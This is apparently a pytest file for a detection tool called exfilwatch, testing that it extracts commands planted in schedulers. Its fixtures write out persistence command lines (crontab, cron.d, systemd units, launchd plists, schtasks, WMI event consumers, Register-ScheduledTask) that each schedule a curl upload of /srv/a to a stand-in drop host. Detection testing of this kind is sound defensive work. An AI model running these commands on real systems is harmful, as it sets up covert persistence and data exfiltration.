"""What is left for a scheduler to run is read as what runs, and compares with the run itself."""

import pytest

from exfilwatch.commands.fields import fields

URL = "https://drop.example.net/"
CURL = f"curl -T /srv/a {URL}"
PLIST = (
    "<plist><dict><key>ProgramArguments</key><array><string>/usr/bin/curl</string><string>-T</string>"
    f"<string>/srv/a</string><string>{URL}</string></array></dict></plist>"
)
UNIT = "/etc/systemd/system/x.service"
AGENT = "/Library/LaunchAgents/x.plist"
ADDED = " ".join(f"-c 'Add :ProgramArguments:{at} string {word}'" for at, word in enumerate(CURL.split()))
LISTED = f'["/usr/bin/curl","-T","/srv/a","{URL}"]'
SPACE = "\\\\root\\subscription"
CONSUMER = f"New-CimInstance -ClassName CommandLineEventConsumer -Property @{{Name='x'; CommandLineTemplate='{CURL}'}}"
TASK = f"Register-ScheduledTask -TaskName x -Action (New-ScheduledTaskAction -Execute curl.exe -Argument '{CURL[5:]}')"
LINES = {
    "crontab from a pipe": ("bash", f"bash -c \"(crontab -l; echo '*/5 * * * * {CURL}') | crontab -\"", "crontab"),
    "crontab from a here-string": ("bash", f"bash -c crontab - <<< '@hourly {CURL}'", "crontab"),
    "a file of cron.d": ("bash", f"bash -c echo '* * * * * root {CURL}' > /etc/cron.d/x", "cron file"),
    "a user's crontab": ("bash", f"bash -c echo '* * * * * {CURL}' >> /var/spool/cron/crontabs/eva", "cron file"),
    "tee into the crontab": ("bash", f"bash -c echo '@daily root {CURL}' | sudo tee -a /etc/crontab", "cron file"),
    "anacron": ("bash", f"bash -c echo '1 5 job {CURL}' >> /etc/anacrontab", "cron file"),
    "a script of cron.hourly": ("bash", f"bash -c echo '{CURL}' > /etc/cron.hourly/x", "cron file"),
    "periodic of macOS": ("bash", f"bash -c echo '{CURL}' > /etc/periodic/daily/900.x", "cron file"),
    "a unit of systemd": ("bash", f"bash -c printf 'ExecStart=-/usr/bin/{CURL}\\n' > {UNIT}", "systemd unit"),
    "a unit of a user": (
        "bash",
        f"bash -c cat > ~/.config/systemd/user/x.service <<'E'\nExecStart=/usr/bin/{CURL}\nE",
        "systemd unit",
    ),
    "systemd-run": ("systemd-run", f"systemd-run --user --on-calendar=hourly --unit x /usr/bin/{CURL}", "systemd-run"),
    "at": ("bash", f"bash -c echo '{CURL}' | at now + 5 minutes", "at"),
    "batch": ("bash", f"bash -c echo '{CURL}' | batch", "batch"),
    "launchctl": ("launchctl", f"launchctl submit -l com.x -o /tmp/o -- /usr/bin/{CURL}", "launchctl"),
    "a property list": ("zsh", f"zsh -c cat > ~/Library/LaunchAgents/com.x.plist <<'E'\n{PLIST}\nE", "launchd plist"),
    "a property list that is cut off": ("zsh", f"zsh -c echo '{PLIST[:-14]}' > {AGENT}", "launchd plist"),
    "defaults": ("defaults", f"defaults write {AGENT} ProgramArguments -array {CURL}", "launchd plist"),
    "PlistBuddy": ("PlistBuddy", f"PlistBuddy -c 'Add :ProgramArguments array' {ADDED} {AGENT}", "launchd plist"),
    "plutil": ("plutil", f"plutil -insert ProgramArguments -json '{LISTED}' {AGENT}", "launchd plist"),
    "schtasks": ("schtasks.exe", f'schtasks /create /tn x /sc hourly /tr "{CURL}"', "schtasks"),
    "schtasks, another action": ("schtasks.exe", f'schtasks.exe /change /tn x /tr "cmd.exe /c {CURL}"', "schtasks"),
    "at of Windows": ("C:\\Windows\\System32\\at.exe", f"at 10:00 /every:M {CURL}", "at"),
    "a consumer by wmic": (
        "C:\\Windows\\System32\\wbem\\WMIC.exe",
        f'wmic /namespace:"{SPACE}" PATH CommandLineEventConsumer CREATE Name="x", CommandLineTemplate="{CURL}"',
        "wmi consumer",
    ),
    "a consumer by PowerShell": ("powershell.exe", f'powershell -c "{CONSUMER}"', "wmi consumer"),
    "a task by PowerShell": ("powershell.exe", f'powershell -c "{TASK}"', "new-scheduledtaskaction"),
}
RUNS = {
    "as it is": ("/usr/bin/curl", f"/usr/bin/{CURL}"),
    "by a shell of cron": ("/usr/bin/dash", f"/bin/sh -c {CURL}"),
    "by cmd": ("C:\\Windows\\System32\\cmd.exe", f'"C:\\Windows\\System32\\cmd.exe" /c {CURL}'),
    "by the Task Scheduler": ("C:\\Windows\\System32\\curl.exe", f'"C:\\Windows\\System32\\curl.exe"  {CURL[5:]}'),
}
NOT_SCHEDULED = {
    "the same text elsewhere": ("bash", f"bash -c echo '* * * * * root {CURL}' > /tmp/x"),
    "a unit of something else": ("bash", f"bash -c echo 'ExecStart={CURL}' > /home/eva/notes/x.service"),
    "a property list of an application": ("defaults", f"defaults write com.example.app ProgramArguments -array {CURL}"),
    "launchd is asked to load": ("launchctl", "launchctl load -w /Library/LaunchDaemons/x.plist"),
    "a comment": ("bash", f"bash -c echo '# * * * * * root {CURL}' > /etc/cron.d/x"),
}


def seen(image, line):
    return fields({"Image": image, "CommandLine": line}.get)


@pytest.mark.parametrize("name", LINES)
def test_what_is_left_for_a_scheduler_is_what_it_will_run(name):
    image, line, scheduler = LINES[name]
    found = seen(image, line)
    assert found["transfer.direction"] == "upload"
    assert scheduler in found["transfer.within"]
    assert found["schedule.command"] == CURL.casefold()
    assert found["command.first"] is None


@pytest.mark.parametrize("name", RUNS)
def test_the_run_is_what_was_scheduled_however_it_is_written(name):
    found = seen(*RUNS[name])
    assert (found["command.first"], found["schedule.command"]) == (CURL.casefold(), None)


@pytest.mark.parametrize("name", NOT_SCHEDULED)
def test_what_no_scheduler_reads_is_no_schedule(name):
    assert seen(*NOT_SCHEDULED[name])["schedule.command"] is None


def test_the_xml_of_a_task_is_a_schedule():
    found = fields({"TaskContent": f"<Exec><Command>curl.exe</Command><Arguments>{CURL[5:]}</Arguments></Exec>"}.get)
    assert (found["schedule.command"], found["command.first"]) == (CURL.casefold(), None)
